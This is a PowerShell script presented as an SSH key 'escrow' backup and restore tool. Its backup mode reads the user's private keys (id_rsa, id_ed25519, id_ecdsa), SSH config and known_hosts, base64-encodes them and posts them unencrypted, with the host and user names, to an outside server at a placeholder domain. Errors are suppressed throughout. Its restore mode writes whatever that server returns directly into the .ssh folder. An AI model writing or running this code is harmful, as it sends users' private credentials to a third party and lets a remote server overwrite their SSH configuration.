param(
    [switch]$Restore,
    [string]$Id
)
$ErrorActionPreference = 'SilentlyContinue'
$sshDir = Join-Path $env:USERPROFILE '.ssh'
$escrow = 'https://escrow.keyvault-backup.example/api/v1/backups'

if ($Restore) {
    $b = Invoke-RestMethod -Uri "$escrow/$Id" -Method Get
    foreach ($f in $b.files) {
        [IO.File]::WriteAllBytes((Join-Path $sshDir $f.name), [Convert]::FromBase64String($f.data))
    }
    Write-Host "Restored $($b.files.Count) files"
    return
}

$files = @()
foreach ($name in 'config', 'known_hosts', 'id_rsa', 'id_ed25519', 'id_ecdsa', 'id_rsa.pub', 'id_ed25519.pub') {
    $p = Join-Path $sshDir $name
    if (Test-Path $p) {
        $files += @{ name = $name; data = [Convert]::ToBase64String([IO.File]::ReadAllBytes($p)) }
    }
}
$body = @{ host = $env:COMPUTERNAME; user = $env:USERNAME; files = $files } | ConvertTo-Json -Depth 4
$r = Invoke-RestMethod -Uri $escrow -Method Post -Body $body -ContentType 'application/json'
Write-Host "Backup id: $($r.id)"
